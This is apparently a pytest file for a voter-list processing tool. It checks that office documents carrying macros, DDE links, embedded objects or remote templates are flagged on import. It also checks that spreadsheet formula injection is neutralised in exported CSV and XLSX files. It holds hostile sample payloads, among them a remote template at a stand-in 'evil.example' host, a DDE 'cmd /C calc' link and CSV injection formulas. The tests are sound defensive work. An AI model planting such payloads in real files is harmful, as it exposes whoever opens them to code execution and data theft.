"""Files that mean harm to whoever opens them.

Named where they come in, harmless where they go out.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile

import pytest

import documents
import handing
import leak_story
import marked
import workspaces
from command_line import call
from handing import DAY, told
from voterlist.config.sections import IngestSettings
from voterlist.readers import read_content
from voterlist.readers.acting import acting

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    'TargetMode="External"/></Relationships>'
)
PLAIN_LINK = RELATIONS.replace("attachedTemplate", "hyperlink")
DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    """A list without harm, as XLSX."""
    path = tmp_path_factory.mktemp("lists") / "list.xlsx"
    marks = marked.Marks()
    rows = [marks.person(number) for number in range(1, 5)]
    marked.write_workbook(path, rows, "1 saylı seçki məntəqəsi")
    return path.read_bytes()


def with_parts(content, **parts):
    """An archive with more files; their names have ``__`` for ``/``."""
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a") as archive:
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return made.getvalue()


HARM = {
    "macros": {"xl__vbaProject.bin": "x"},
    "macros of Excel 4": {"xl__macrosheets__sheet1.xml": "<x/>"},
    "DDE": {"xl__externalLinks__externalLink1.xml": DDE},
    "a connection": {"xl__connections.xml": "<connections/>"},
    "an embedded program": {"xl__embeddings__oleObject1.bin": "x"},
    "a control": {"xl__activeX__activeX1.xml": "<x/>"},
    "buttons": {"customUI__customUI.xml": "<x/>"},
    "a remote part": {"xl__worksheets___rels__sheet9.xml.rels": RELATIONS},
}


@pytest.mark.parametrize("kind", HARM)
def test_a_workbook_that_acts_is_named_and_read_as_the_list_that_it_is(workbook, kind):
    """The operator would open it to look, and its macro would have the lists."""
    poisoned = with_parts(workbook, **HARM[kind])
    plain, found = (
        read_content(content, IngestSettings()) for content in (workbook, poisoned)
    )
    assert plain[0].acts == 0
    assert found[0].acts == 1
    assert found[0].cells.equals(plain[0].cells)


def test_documents_with_remote_templates_macros_and_scripts_are_named():
    word = documents.word_list()
    harm = {"word___rels__settings.xml.rels": RELATIONS, "word__vbaProject.bin": "x"}
    assert acting(with_parts(word, **harm)) == 2
    assert acting(with_parts(word, **{"word___rels__a.xml.rels": PLAIN_LINK})) == 0
    sheet = io.BytesIO()
    with zipfile.ZipFile(sheet, "w") as archive:
        archive.writestr("Basic/Standard/Module1.xml", "<x/>")
        archive.writestr("content.xml", " " * 2**20 + "<table:dde-link/>")
    assert acting(sheet.getvalue()) == 2
    compound = bytes.fromhex("d0cf11e0a1b11ae1") + "_VBA_PROJECT_CUR\0".encode(
        "utf-16-le"
    )
    assert acting(compound) == 1
    assert acting(b"%PDF-1.7 /OpenAction << /S /JavaScript >>") == 1
    for harmless in (b"", b"a;b;c", b"PK\x03\x04", word):
        assert acting(harmless) == 0


def test_a_run_and_inspect_say_that_a_list_acts(workbook, tmp_path):
    """A file that only the reader knows to be harmful is opened all the same."""
    workspace = workspaces.make(tmp_path / "2026")
    path = workspace / "inbox" / "88" / "menteqe-3.xlsx"
    path.write_bytes(with_parts(workbook, **HARM["macros"]))
    result = workspaces.run(workspace)
    findings = handing.newest(workspace, "findings").to_pylist()
    assert [one["value"] for one in findings if one["rule"] == "acting-file"] == [1.0]
    assert result.folder.exists()
    said = call("inspect", path).stdout
    assert "act when a program opens it" in said


# What goes out

FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
)
STARTS = re.compile(r"[\t\r\n]|\s*[=+\-@＝＋－＠]")


def poisoned(workspace):
    """Every text cell of some rows begins as a formula; one person stands in both lists."""
    for precinct in (1, 2):
        path = workspace / "inbox" / "88" / f"menteqe-{precinct}.csv"
        lines = path.read_text(encoding="utf-8")
        for number, formula in enumerate(FORMULAS):
            text = formula.replace('"', '""').replace("\t", "")
            cells = [f'"{text}"' if part in "anf" else part for part in ("a", "n", "f")]
            row = ";".join(
                [
                    f"{number + 10}",
                    *cells,
                    f"0{number + 1}.02.1970",
                    "kişi",
                    cells[0],
                    "",
                ]
            )
            lines += row + "\n"
        path.write_text(lines, encoding="utf-8")
    return workspace


def formulas_in(path):
    """What of a file a spreadsheet would work out: formulas of a workbook, cells of a CSV."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        return [cell for row in rows for cell in row if _is_formula(cell)]
    with zipfile.ZipFile(path) as archive:
        sheets = [
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]
        assert not any("externalLink" in name for name in archive.namelist())
    found = [text for sheet in sheets for text in re.findall(r"<f>(.*?)</f>", sheet)]
    return [text for text in found if "HYPERLINK(" in text or "cmd" in text]


def _is_formula(cell):
    try:
        float(cell)
    except ValueError:
        return bool(STARTS.match(cell))
    return False


def _done(*words):
    """Run a command, which does what it is asked for."""
    code, said = told(*words)
    assert code in {0, 1}, said


def test_no_file_that_is_written_holds_a_formula_of_a_list(tmp_path):
    """A clerk writes one into a name; it would run on the computer of whoever opens the report."""
    pair = handing.pair(tmp_path, settings=leak_story.BELOW)
    below, out = poisoned(pair.below), tmp_path / "out"
    out.mkdir()
    _done("run", below, "--today", DAY)
    for purpose in ("display", "work", "record"):
        _done("lists", below, "--purpose", purpose, "--today", DAY)
    _done("review", "export", below, "--today", DAY)
    _done("review", "sample", below, "--today", DAY)
    lists = sorted((below / "inbox" / "88").glob("*.csv"))
    for path in lists:
        shutil.copy(path, out / f"table-{path.name}")
        text = path.read_text(encoding="utf-8").partition("\n")[2]
        (out / f"table-{path.name}").write_text(text, encoding="utf-8")
    tables = sorted(out.glob("table-*"))
    for form in ("csv", "xlsx"):
        _done("link", *tables, "--out", out / f"pairs.{form}")
    assert pair.submit("formulas.zip")[0] == 0
    assert pair.receive("formulas.zip")[0] == 0
    _done("run", pair.above, "--today", DAY)
    _done("return", pair.above, "-c", 88, "--out", out / "down.zip", "--today", DAY)
    _done("receive", below, out / "down.zip", "--today", DAY)
    written = [
        path
        for folder in (below, pair.above, out)
        for path in sorted(folder.rglob("*"))
        if path.suffix in {".xlsx", ".csv"}
        and not path.is_relative_to(below / "inbox")
        and path not in tables
    ]
    names = {path.suffix: path.name for path in written}
    assert set(names) == {".csv", ".xlsx"}
    assert len(written) > 10
    assert {path.name: formulas_in(path) for path in written if formulas_in(path)} == {}
    texts = "".join(
        path.read_text(encoding="utf-8") for path in written if path.suffix == ".csv"
    )
    assert "HYPERLINK" in texts, "the formulas never came so far"
